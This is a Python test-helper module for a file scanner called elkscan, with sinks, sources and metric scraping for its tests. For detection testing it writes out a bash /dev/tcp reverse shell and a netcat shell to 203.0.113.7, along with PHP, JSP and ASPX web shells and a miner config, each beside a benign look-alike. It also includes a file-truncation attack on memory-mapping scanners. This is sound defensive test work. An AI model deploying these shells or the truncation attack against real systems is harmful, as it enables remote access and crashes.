"""Public helpers for testing elkscan plugins (also a pytest plugin, so nothing needs importing).

- ``eicar()`` builds the EICAR test string at run time, so no repository holds it.
- ``write_samples(directory)`` writes ``SAMPLES``: harmless files that the bundled rules detect, and
  benign look-alikes that they must not.
- ``run(pipeline, plugins=...)`` runs a real session with a fresh plugin manager and returns every
  record the sinks saw, through a ``Collector`` sink added to the pipeline.
- ``scrape(session)`` reads a running session's metrics endpoint as Prometheus does.
- ``feed(items)`` is a pipeline source entry that yields the given targets and records (``Feed``), such
  as ``events(count)``, a stream of log records;
  ``Ledger`` makes receipts that remember how the session settled them; the ``faulty`` sink (``Faulty``)
  fails or hangs on the records of chosen paths.
"""

from __future__ import annotations

import collections
import itertools
import os
import shutil
import subprocess
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Union

import attrs

from .canary import eicar
from .components import Sink, Source
from .hookspecs import hookimpl
from .model import Receipt, Record, Target
from .pipeline import ComponentSpec, parse_pipeline
from .plugins import make_plugin_manager
from .runner import Session, Summary, build_session

def _j(*parts: str) -> bytes:
    """Join pieces at run time, so this module itself does not match the rules it tests."""
    return "".join(parts).encode()


def _fake_miner_elf() -> bytes:
    """An ELF header followed by the strings of a miner binary; not a runnable program."""
    strings = (_j("--donate", "-level"), _j("--cpu-", "priority"), _j("crypto", "night"),
               _j("stra", "tum+tcp://"))
    return b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"\0".join(strings) + b"\0"


#: file name -> (content, the bundled rule that must detect it, or None for a benign look-alike)
SAMPLES: dict[str, tuple[bytes, str | None]] = {
    "eicar.com": (eicar(), "Multios_TestFile_Eicar"),
    "eicar-lookalike.txt": (b"The EICAR test file is described at eicar.org; it is harmless.\n", None),
    "miner.json": (_j('{"pools": [{"url": "stratum', '+tcp://pool.example.net:3333", ',
                      '"user": "4A1234", "pass": "x"}], "donate-level": 1, "randomx": {"1gb-pages": true}}\n'),
                   "Linux_Cryptominer_StratumConfig"),
    "miner-lookalike.md": (b"Notes: the Stratum protocol is documented elsewhere; donate-level is a "
                           b"setting we never use.\n", None),
    "miner.elf": (_fake_miner_elf(), "Linux_Cryptominer_MinerBinary"),
    "miner-lookalike.elf": (b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"randomx library build\0", None),
    "revshell.sh": (_j("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.7/4444 0>&1\n"),
                    "Linux_ReverseShell_DevTcp"),
    "revshell-lookalike.sh": (b"#!/bin/sh\n# checks that /dev/tcp is disabled in this shell\nbash -i\n",
                              None),
    "netcat.sh": (_j("#!/bin/sh\nnc 203.0.113.7 4444 -", "e /bin/sh\n"), "Linux_ReverseShell_NetcatExec"),
    "netcat-lookalike.sh": (b"#!/bin/sh\nnc -z 203.0.113.7 4444 && echo port open\n", None),
    "webshell.php": (_j("<?php @ev", "al($_PO", "ST['cmd']); ?>\n"), "Php_Webshell_EvalRequest"),
    "webshell-lookalike.php": (b"<?php echo htmlspecialchars($_POST['name'] ?? ''); ?>\n", None),
    "webshell.jsp": (_j('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().ex',
                        'ec(request.getPara', 'meter("cmd")); %>\n'), "Jsp_Webshell_RuntimeExec"),
    "webshell-lookalike.jsp": (b'<% String n = request.getParameter("name"); out.print(n); %>\n', None),
    "webshell.aspx": (_j('<%@ Page Language="Jscript"%><%ev', 'al(Request.Item["pass"],"unsafe");%>\n'),
                      "Asp_Webshell_EvalRequest"),
    "webshell-lookalike.aspx": (b'<%@ Page Language="C#"%><% Response.Write(Request.Form["q"]); %>\n',
                                None),
}


def write_samples(directory: str | Path) -> list[Path]:
    """Write every sample into ``directory`` (created if needed); returns the paths written."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (content, _) in SAMPLES.items():
        path = directory / name
        path.write_bytes(content)
        written.append(path)
    return written


class Collector(Sink):
    """A sink that keeps every record in memory, in order."""

    id = "collect"

    def start(self) -> None:
        self.records: list[Record] = []
        self._lock = threading.Lock()

    def write(self, record: Record) -> None:
        with self._lock:
            self.records.append(record)


#: Feed key -> what that feed yields (``feed()`` puts it here, the ``Feed`` source takes it).
_FEEDS: dict[str, Any] = {}
_feed_keys = itertools.count()
Items = Union[Iterable[Union[Target, Record]], Callable[[Any], Iterable[Union[Target, Record]]]]


def feed(items: Items) -> dict[str, Any]:
    """A pipeline's source entry for a ``Feed`` that yields ``items`` (targets, records) once: an
    iterable, or a function of the running session that returns one (a test may stop the session
    from it, or wait for something before yielding more)."""
    key = f"feed-{next(_feed_keys)}"
    _FEEDS[key] = items
    return {"use": "feed", "with": {"key": key}}


def events(count: int, *, every: float = 0.0, pad: int = 0,
           before: Callable[[int], Any] | None = None) -> Iterable[Record]:
    """``count`` log records with facts ``n`` (0, 1, ...) and, when ``pad``, ``msg`` of that many bytes;
    one every ``every`` seconds; ``before(n)``, if given, runs before the n-th (a test's outage, a gate).
    For ``feed()``: a delivery test's steady stream of records."""
    for n in range(count):
        if every:
            time.sleep(every)
        if before is not None:
            before(n)
        yield Record(kind="log", facts={"n": n, "msg": "x" * pad} if pad else {"n": n})


@attrs.frozen
class FeedConfig:
    key: str


class Feed(Source):
    """A source that yields what ``feed()`` was given, then ends (see ``feed``)."""

    id = "feed"
    Config = FeedConfig

    def targets(self) -> Iterable[Target | Record]:
        items = _FEEDS.pop(self.config.key)
        yield from items(self.session) if callable(items) else items


class Ledger:
    """Receipts for a test that remember how the session settled each: ``receipt(name)`` makes one, and
    ``calls[name]`` lists the ``"ack"``/``"nak"`` calls its source saw, in order (exactly one is right).
    ``on_ack(name)``, if given, runs inside each ack: a test checks there that the record is really in the
    sinks at that moment."""

    def __init__(self, on_ack: Callable[[str], None] | None = None) -> None:
        self.calls: dict[str, list[str]] = collections.defaultdict(list)
        self.on_ack = on_ack
        self.failures: list[BaseException] = []  # what on_ack raised (the session only logs it)
        self._cond = threading.Condition()

    def receipt(self, name: str) -> Receipt:
        return Receipt(lambda: self._call(name, "ack"), lambda: self._call(name, "nak"))

    def _call(self, name: str, how: str) -> None:
        if how == "ack" and self.on_ack is not None:
            try:
                self.on_ack(name)
            except BaseException as exc:
                self.failures.append(exc)
                raise
        with self._cond:
            self.calls[name].append(how)
            self._cond.notify_all()

    def outcome(self, name: str) -> str:
        """``"ack"`` or ``"nak"`` when settled once, ``""`` when not yet; AssertionError when twice."""
        calls = self.calls.get(name, [])
        assert len(calls) <= 1, f"{name} was settled {len(calls)} times: {calls}"
        return calls[0] if calls else ""

    def wait(self, *names: str, timeout: float = 30.0) -> bool:
        """Until each of ``names`` is settled; False when ``timeout`` passed first."""
        with self._cond:
            return self._cond.wait_for(lambda: all(self.calls.get(n) for n in names), timeout)


@attrs.frozen
class FaultyConfig:
    """``fail_on``: paths whose records ``write()`` raises on; ``hang_on``: paths whose records it
    blocks on until the sink is closed (after ``call_timeout`` seconds the session gives the sink up);
    ``fail_flush``: every ``flush()`` raises."""

    fail_on: list[str] = attrs.field(factory=list)
    hang_on: list[str] = attrs.field(factory=list)
    fail_flush: bool = False
    call_timeout: float = 30.0


class Faulty(Sink):
    """A sink that misbehaves on chosen records (``FaultyConfig``); the ones it took are in ``records``,
    and ``flushed`` counts the records a ``flush()`` that returned followed."""

    id = "faulty"
    Config = FaultyConfig

    def start(self) -> None:
        self.call_timeout = self.config.call_timeout
        self.records: list[Record] = []
        self.flushed = 0
        self._closed = threading.Event()

    def write(self, record: Record) -> None:
        path = record.target.path if record.target is not None else ""
        if path in self.config.fail_on:
            raise OSError(f"faulty sink: cannot write {path}")
        if path in self.config.hang_on:
            self._closed.wait()
        self.records.append(record)

    def flush(self) -> None:
        if self.config.fail_flush:
            raise OSError("faulty sink: cannot flush")
        self.flushed = len(self.records)

    def close(self) -> None:
        self._closed.set()


class _TestingPlugin:
    @hookimpl
    def elkscan_register_sinks(self, registry) -> None:
        registry.add(Collector)
        registry.add(Faulty)

    @hookimpl
    def elkscan_register_sources(self, registry) -> None:
        registry.add(Feed)


#: A file's owner cutting it short again and again: grown back to its size, a pause for a scan to start
#: on it, cut to one page; from a directory descriptor, so the directories above may stay private.
_SHRINKER = """
import os, sys, time
dirfd, name, size, hold = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4] == "hold"
held = os.open(name, os.O_WRONLY, dir_fd=dirfd) if hold else None
while True:
    for length, pause in ((size, 0.03), (4096, 0.003)):
        fd = held if hold else os.open(name, os.O_WRONLY, dir_fd=dirfd)  # waits while a lease is held
        os.ftruncate(fd, length)
        if not hold:
            os.close(fd)
        time.sleep(pause)
"""


@contextmanager
def dated_directory(base: str | Path, beside: str | Path) -> Iterator[Path]:
    """``base`` when its filesystem dates every write through a shared mapping (ext4, xfs, btrfs), as the
    verdict cache requires before it keeps a verdict; else a new directory in ``beside`` (a tmpfs /tmp
    dates nothing), removed when the block ends."""
    from .cache import dates_mmap_writes  # sqlite3 comes with it: only for the tests that need it

    fd = os.open(base, os.O_RDONLY)
    try:
        dated = dates_mmap_writes(fd)
    finally:
        os.close(fd)
    if dated:
        yield Path(base)
        return
    directory = Path(tempfile.mkdtemp(prefix="dated-", dir=beside))
    try:
        yield directory
    finally:
        shutil.rmtree(directory)


@contextmanager
def shrinking(path: str | Path, *, hold: bool = False, owner: int = 65534) -> Iterator[None]:
    """The attack on a scanner that maps files (SIGBUS past the new end): ``path`` is given to ``owner``
    (nobody), who truncates it to 4 KiB and back to its size again and again until the block ends;
    ``hold``: while keeping it open for writing (so no read lease can be had). Needs root; the owner
    runs the system's Python, which any user can."""
    path = Path(path)
    size = path.stat().st_size
    os.chown(path, owner, owner)
    os.chown(path.parent, owner, owner)
    path.parent.chmod(0o755)
    dirfd = os.open(path.parent, os.O_RDONLY | os.O_DIRECTORY)
    try:
        shrinker = subprocess.Popen(["/usr/bin/python3", "-c", _SHRINKER, str(dirfd), path.name, str(size),
                                     "hold" if hold else ""], user=owner, group=owner, extra_groups=[],
                                    pass_fds=(dirfd,), cwd="/")
    finally:
        os.close(dirfd)
    try:
        time.sleep(0.1)  # it has started
        assert shrinker.poll() is None, "the shrinking owner could not start"
        yield
    finally:
        shrinker.kill()
        shrinker.wait()


@attrs.frozen
class Result:
    """What a test session produced."""

    records: list[Record]
    summary: Summary
    session: Session

    @property
    def detected(self) -> dict[str, list[str]]:
        """Path -> signatures, for records with detections."""
        return {r.target.path: [d.signature for d in r.detections]
                for r in self.records if r.target is not None and r.detections}


def run(pipeline: Mapping[str, Any], *, extra_plugins: Iterable[object] = (), report_clean: bool = False,
        base_dir: str = ".") -> Result:
    """Run ``pipeline`` (a mapping, as the YAML would be) to its end with a collecting sink added.

    Plugins named in its ``plugins:`` are loaded from their entry points, exactly as in production;
    ``extra_plugins`` are registered as well (fake components for a test). A one-shot run, as
    ``elkscan scan``: engines are shown no canary unless the mapping names ``canary_every``.
    """
    parsed = parse_pipeline({"version": 1, "canary_every": 0, **pipeline}, "<test pipeline>", base_dir)
    parsed = attrs.evolve(parsed, sinks=(*parsed.sinks, ComponentSpec("sink", "collect", where="<test>")))
    pm = make_plugin_manager(parsed.plugins)
    pm.register(_TestingPlugin(), name="elkscan-testing")
    for index, plugin in enumerate(extra_plugins):
        pm.register(plugin, name=f"test-plugin-{index}")
    session = build_session(parsed, pm, report_clean=report_clean)
    summary = session.run()
    collector = next(s for s in session.sinks if isinstance(s, Collector))
    return Result(collector.records, summary, session)


@attrs.frozen
class Scrape:
    """A parsed scrape: metric families by name."""

    families: dict[str, Any]

    def value(self, name: str, **labels: str) -> float | None:
        """The value of the sample ``name`` (``elkscan_files_total``) whose labels include ``labels``."""
        for family in self.families.values():
            for sample in family.samples:
                if sample.name == name and labels.items() <= sample.labels.items():
                    return sample.value
        return None


def scrape(url_or_session: str | Session, openmetrics: bool = True) -> Scrape:
    """GET a metrics endpoint (a URL, or a running session with ``metrics:``) as Prometheus does,
    asking for OpenMetrics, and parse it with prometheus-client's own parser."""
    if isinstance(url_or_session, Session):
        host, _ = url_or_session.pipeline.metrics.address
        url = f"http://{f'[{host}]' if ':' in host else host}:{url_or_session.metrics.port}/metrics"
    else:
        url = url_or_session
    if openmetrics:
        from prometheus_client.openmetrics.parser import text_string_to_metric_families
        accept = "application/openmetrics-text; version=1.0.0; charset=utf-8"
    else:
        from prometheus_client.parser import text_string_to_metric_families
        accept = "text/plain"
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # never an http_proxy
    with opener.open(urllib.request.Request(url, headers={"Accept": accept}), timeout=10) as response:
        text = response.read().decode()
    return Scrape({family.name: family for family in text_string_to_metric_families(text)})
